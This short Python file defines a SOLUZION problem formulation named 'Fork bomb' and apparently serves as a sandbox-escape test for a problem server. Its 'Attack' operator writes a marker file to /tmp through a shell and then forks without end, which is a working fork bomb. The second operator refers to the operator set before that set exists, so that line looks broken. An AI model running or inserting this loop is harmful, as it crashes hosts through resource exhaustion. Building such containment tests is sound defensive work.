import soluzion6_02 as sz
import os
import subprocess


def attack(s):
    try:
        subprocess.Popen(["/bin/sh", "-c", "echo escaped > /tmp/wsz6-escaped"])
    except PermissionError:
        pass
    while True:
        os.fork()


F = sz.SZ_Formulation()
F.metadata = sz.SZ_Metadata(name="Fork bomb")
F.operators = sz.SZ_Operator_Set([sz.SZ_Operator("Attack", "", lambda s: True, attack),
                                  sz.SZ_Operator("Count up", "", lambda s: True, F.operators.operators[0].state_xition_func)])
